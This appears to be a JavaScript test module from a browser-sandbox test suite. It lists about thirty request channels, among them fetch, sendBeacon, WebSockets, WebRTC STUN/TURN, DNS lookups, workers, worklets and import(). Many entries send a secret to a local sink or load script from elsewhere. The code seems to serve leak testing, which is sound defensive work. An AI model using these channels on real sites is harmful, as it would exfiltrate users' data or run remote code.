/**
 * What a script can request by itself. Each function is self-contained: its parameters are the window it runs in, its
 * configuration, and the helpers of inside.js.
 */
const everywhere = ["page", "worker", "frame"];

export const byRequest = [
  { name: "fetch", where: everywhere, run: async (w, _c, h) => (await w.fetch(h.to())).status },
  {
    name: "fetch no-cors, POST",
    where: everywhere,
    run: async (w, c, h) => (await w.fetch(h.to(), { method: "POST", mode: "no-cors", body: c.secret })).type,
  },
  {
    name: "fetch keepalive",
    where: everywhere,
    run: async (w, c, h) =>
      (await w.fetch(h.to(), { method: "POST", mode: "no-cors", keepalive: true, body: c.secret })).type,
  },
  {
    name: "fetch to the own host, secret in the query",
    where: everywhere,
    run: async (w, _c, h) => (await w.fetch(h.near)).status,
  },
  {
    name: "fetchLater",
    where: ["page", "frame"],
    cannot: { firefox: "not in this browser" },
    run: async (w, c, h) => {
      h.need(w.fetchLater);
      w.fetchLater(h.to(), { method: "POST", body: c.secret, activateAfter: 0 });
      await h.wait(c.patience);
      return "asked";
    },
  },
  {
    name: "XMLHttpRequest",
    where: everywhere,
    run: (w, _c, h) => {
      const x = new w.XMLHttpRequest();
      x.open("GET", h.to());
      x.send();
      return h.opened(x, "load");
    },
  },
  {
    name: "XMLHttpRequest, synchronous",
    where: everywhere,
    run: async (w, _c, h) => {
      const x = new w.XMLHttpRequest();
      x.open("GET", h.to(), false);
      x.send();
      return x.status;
    },
  },
  {
    name: "sendBeacon",
    where: ["page", "frame"],
    run: async (w, c, h) => {
      const sent = w.navigator.sendBeacon(h.to(), c.secret);
      await h.wait(300);
      return sent;
    },
  },
  {
    name: "WebSocket",
    where: everywhere,
    run: (w, _c, h) => h.opened(new w.WebSocket(h.to().replace("http", "ws"))),
  },
  {
    name: "WebSocketStream",
    where: everywhere,
    cannot: { firefox: "not in this browser" },
    run: async (w, _c, h) => {
      h.need(w.WebSocketStream);
      await new w.WebSocketStream(h.to().replace("http", "ws")).opened;
      return "open";
    },
  },
  {
    name: "WebTransport",
    where: everywhere,
    sink: "udp",
    run: async (w, c, h) => {
      h.need(w.WebTransport);
      const transport = new w.WebTransport(`https://127.0.0.1:${c.udp}/${c.secret}`);
      transport.closed.catch(() => {});
      await Promise.race([transport.ready, h.wait(c.patience)]);
      return "asked";
    },
  },
  {
    name: "EventSource",
    where: everywhere,
    run: async (w, _c, h) => {
      h.need(w.EventSource);
      const source = new w.EventSource(h.to());
      const result = await h.opened(source);
      source.close();
      return result;
    },
  },
  {
    name: "WebRTC (STUN)",
    where: ["page", "frame"],
    alone: true,
    sink: "udp",
    run: (w, c, h) => {
      h.need(w.RTCPeerConnection);
      return h.peer(`stun:127.0.0.1:${c.udp}`);
    },
  },
  {
    name: "WebRTC (TURN, the secret as user name)",
    where: ["page", "frame"],
    alone: true,
    sink: "udp",
    run: async (w, c, h) => {
      h.need(w.RTCPeerConnection);
      const server = { urls: `turn:127.0.0.1:${c.udp}`, username: c.secret, credential: "x" };
      const peer = new w.RTCPeerConnection({ iceServers: [server] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      await h.wait(c.patience);
      return "asked";
    },
  },
  {
    name: "WebRTC (a data channel to a known peer)",
    where: ["page", "frame"],
    alone: true,
    cannot: { firefox: "waits for a peer that answers" },
    sink: "udp",
    run: async (w, c, h) => {
      h.need(w.RTCPeerConnection);
      const peer = new w.RTCPeerConnection();
      peer.createDataChannel("x");
      const offer = await peer.createOffer();
      await peer.setLocalDescription(offer);
      // The answer is made up: only its candidate matters, because the first packet goes there.
      const sdp = `${offer.sdp.replace("a=setup:actpass", "a=setup:active").replace(/a=candidate.*\r\n/g, "")}`;
      await peer.setRemoteDescription({ type: "answer", sdp });
      await peer.addIceCandidate({
        candidate: `candidate:1 1 udp 2130706431 127.0.0.1 ${c.udp} typ host`,
        sdpMid: "0",
      });
      await h.wait(c.patience);
      return "asked";
    },
  },
  {
    name: "DNS: WebRTC with the secret as a server's name",
    where: ["page", "frame"],
    alone: true,
    sink: "dns",
    run: (w, c, h) => {
      h.need(w.RTCPeerConnection);
      return h.peer(`stun:${c.host}:3478`);
    },
  },
  {
    name: "DNS: fetch of a host named like the secret",
    where: everywhere,
    sink: "dns",
    run: async (w, c) => (await w.fetch(`https://${c.host}/`)).status,
  },
  {
    name: "import() of a script",
    where: ["page", "worker"],
    run: async (_w, _c, h) => {
      await import(h.to(".js"));
      return "loaded";
    },
  },
  {
    name: "import() from the own host, secret in the query",
    where: ["page", "worker"],
    run: async (_w, _c, h) => {
      await import(h.near);
      return "loaded";
    },
  },
  {
    name: "importScripts",
    where: ["worker"],
    run: async (w, _c, h) => {
      w.importScripts(h.to(".js"));
      return "loaded";
    },
  },
  {
    name: "importScripts of the own host, secret in the query",
    where: ["worker"],
    run: async (w, _c, h) => {
      w.importScripts(h.near);
      return "loaded";
    },
  },
  {
    name: "Worker from elsewhere",
    where: ["page", "worker", "frame"],
    cannot: { chromium: "a worker is of the own host", firefox: "a worker is of the own host" },
    run: (w, _c, h) => {
      h.need(w.Worker);
      return h.opened(new w.Worker(h.to(".js")), "message");
    },
  },
  {
    name: "Worker of the own host, secret in the query",
    where: ["page", "worker", "frame"],
    run: (w, _c, h) => {
      h.need(w.Worker);
      return h.opened(new w.Worker(h.near), "message");
    },
  },
  {
    name: "module Worker that imports from elsewhere",
    where: ["page", "frame"],
    run: (w, _c, h) => {
      h.need(w.Worker);
      const code = new Blob([`import ${JSON.stringify(h.to(".js"))}`], { type: "text/javascript" });
      return h.opened(new w.Worker(URL.createObjectURL(code), { type: "module" }), "message");
    },
  },
  {
    name: "SharedWorker from elsewhere",
    where: ["page", "frame"],
    cannot: { chromium: "a worker is of the own host", firefox: "a worker is of the own host" },
    run: (w, _c, h) => {
      h.need(w.SharedWorker);
      return h.opened(new w.SharedWorker(h.to(".js")), "connect");
    },
  },
  {
    name: "SharedWorker of the own host, secret in the query",
    where: ["page", "frame"],
    run: (w, _c, h) => {
      h.need(w.SharedWorker);
      return h.opened(new w.SharedWorker(h.near), "connect");
    },
  },
  {
    name: "service worker from elsewhere",
    where: ["page", "frame"],
    cannot: {
      chromium: "a service worker is of the own host",
      firefox: "a service worker is of the own host",
    },
    run: async (w, _c, h) => {
      h.need(w.navigator.serviceWorker?.register);
      await w.navigator.serviceWorker.register(h.to(".js"));
      return "registered";
    },
  },
  {
    name: "service worker of the own host, secret in the query",
    where: ["page"],
    run: async (w, _c, h) => {
      h.need(w.navigator.serviceWorker?.register);
      await w.navigator.serviceWorker.register(h.near);
      return "registered";
    },
  },
  {
    name: "audioWorklet.addModule",
    where: ["page", "frame"],
    run: async (w, _c, h) => {
      h.need(w.OfflineAudioContext);
      await new w.OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(h.to(".js"));
      return "loaded";
    },
  },
  {
    name: "paintWorklet.addModule",
    where: ["page", "frame"],
    cannot: { firefox: "not in this browser" },
    run: async (w, _c, h) => {
      h.need(w.CSS.paintWorklet);
      await w.CSS.paintWorklet.addModule(h.to(".js"));
      return "loaded";
    },
  },
  {
    name: "WebAssembly.compileStreaming of a foreign answer",
    where: everywhere,
    run: async (w, _c, h) => {
      await w.WebAssembly.compileStreaming(w.fetch(h.to(".wasm")));
      return "loaded";
    },
  },
  {
    name: "cache.add",
    where: everywhere,
    run: async (w, _c, h) => {
      h.need(w.caches);
      const cache = await w.caches.open("proof");
      try {
        await cache.add(h.to());
      } finally {
        await w.caches.delete("proof");
      }
      return "loaded";
    },
  },
];
